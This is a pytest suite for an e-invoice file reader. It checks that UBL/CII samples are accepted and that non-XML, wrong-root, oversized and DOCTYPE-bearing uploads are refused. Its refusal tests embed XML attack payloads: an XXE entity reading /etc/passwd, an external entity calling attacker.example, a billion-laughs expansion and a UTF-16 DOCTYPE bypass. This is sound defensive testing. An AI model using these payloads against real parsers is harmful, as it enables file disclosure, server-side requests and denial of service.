"""Taking in an e-invoice file: what is accepted, and what is refused and why."""

import hashlib

import pytest

from core.errors import TooLarge, ValidationFailed
from einvoicing.document import Container, Syntax
from einvoicing.reading import einvoice_from_file, read_file
from tests.einvoicing.samples import all_samples, sample_bytes

# Pure: the same on either backend, so run once (tests/conftest.py).
pytestmark = pytest.mark.backend_free

UBL_NS = b"urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
DOCTYPE_REFUSAL = "E-invoices may not contain a DOCTYPE or entity declarations"


def refusal(content: bytes, filename: str = "invoice.xml") -> ValidationFailed:
    with pytest.raises(ValidationFailed) as refused:
        read_file(filename=filename, content=content)
    # What the upload form shows next to the file field.
    assert refused.value.field_errors == {"file": refused.value.message}
    return refused.value


@pytest.mark.parametrize("name", all_samples())
def test_every_sample_is_accepted_as_xml_of_its_syntax(name):
    content = sample_bytes(name)

    received = read_file(filename=name, content=content)

    assert received.syntax is (Syntax.CII if name.startswith("CII") else Syntax.UBL)
    assert received.container is Container.XML
    assert (received.xml, received.pdf, received.filename) == (content, None, name)
    assert received.sha256 == hashlib.sha256(content).hexdigest()
    assert einvoice_from_file(received).number


def test_example1_read_through_the_file_gives_its_payable_amount():
    received = read_file(
        filename="example1.xml", content=sample_bytes("ubl-tc434-example1.xml")
    )

    invoice = einvoice_from_file(received)

    assert (str(invoice.totals.amount_due), invoice.currency) == ("250.33", "EUR")


def test_an_external_entity_to_a_local_file_is_refused_unread():
    content = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<Invoice xmlns="' + UBL_NS + b'"><ID>&xxe;</ID></Invoice>'
    )

    refused = refusal(content)

    assert refused.message.startswith(DOCTYPE_REFUSAL)
    assert "root:" not in refused.message


def test_an_external_entity_over_http_is_refused():
    content = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE Invoice [<!ENTITY remote SYSTEM "http://attacker.example/x">]>\n'
        b'<Invoice xmlns="' + UBL_NS + b'"><ID>&remote;</ID></Invoice>'
    )

    assert refusal(content).message.startswith(DOCTYPE_REFUSAL)


def test_billion_laughs_is_refused():
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    content = (
        b'<?xml version="1.0"?><!DOCTYPE Invoice [' + entities + b"]>"
        b'<Invoice xmlns="' + UBL_NS + b'"><ID>&lol9;</ID></Invoice>'
    )

    assert refusal(content).message.startswith(DOCTYPE_REFUSAL)


def test_a_doctype_without_entities_is_refused():
    xml = sample_bytes("ubl-tc434-example1.xml").replace(
        b"<Invoice ", b"<!DOCTYPE Invoice>\n<Invoice ", 1
    )

    assert refusal(xml).message.startswith(DOCTYPE_REFUSAL)


def test_a_doctype_in_utf16_is_refused_after_parsing():
    # The byte check before parsing cannot see it; the parsed tree's DTD can.
    text = sample_bytes("CII_example3.xml").decode("utf-8")
    text = text.replace('encoding="utf-8"', 'encoding="UTF-16"').replace(
        "<rsm:CrossIndustryInvoice ",
        '<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY x "y">]>\n'
        "<rsm:CrossIndustryInvoice ",
        1,
    )

    assert refusal(text.encode("utf-16")).message.startswith(DOCTYPE_REFUSAL)


@pytest.mark.parametrize(
    "content",
    [
        b"Invoice 12115118, total 250.33 EUR",
        b"\x89PNG\r\n\x1a\n\x00\x00",
        b"",
        b"<Invoice",
    ],
    ids=["text", "png", "empty", "broken-xml"],
)
def test_a_file_that_is_not_xml_is_refused(content):
    refused = refusal(content, filename="scan.png")

    assert refused.message.startswith("This file is not XML")
    assert "Accepted: a UBL 2.1 Invoice or CreditNote" in refused.message


def test_xml_that_is_not_an_einvoice_is_refused_naming_its_root():
    content = b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>'

    refused = refusal(content)

    assert refused.message == (
        "This XML is not an e-invoice this system reads: its root element is 'Order' "
        "in namespace 'urn:oasis:names:specification:ubl:schema:xsd:Order-2'. "
        "Accepted: a UBL 2.1 Invoice or CreditNote, a UN/CEFACT CII "
        "CrossIndustryInvoice (XRechnung, Factur-X, ZUGFeRD 2), or a Factur-X / "
        "ZUGFeRD PDF."
    )


def test_an_invoice_root_without_its_namespace_is_refused():
    refused = refusal(b"<Invoice><ID>1</ID></Invoice>")

    assert "its root element is 'Invoice' (no namespace)" in refused.message


def test_a_file_over_the_attachment_limit_is_refused_with_both_sizes(settings):
    settings.INVOICE_ATTACHMENT_MAX_BYTES = 10 * 1024
    content = sample_bytes("ubl-tc434-example1.xml")  # about 21 KB
    assert len(content) > 10 * 1024

    with pytest.raises(TooLarge) as refused:
        read_file(filename="big.xml", content=content)

    assert refused.value.status_code == 413
    assert refused.value.message == (
        f"The file big.xml is {len(content) / 1024:.0f} KB; e-invoices are at most 10 KB."
    )


def test_a_file_at_the_limit_is_accepted(settings):
    content = sample_bytes("CII_example3.xml")
    settings.INVOICE_ATTACHMENT_MAX_BYTES = len(content)

    assert read_file(filename="x.xml", content=content).syntax is Syntax.CII
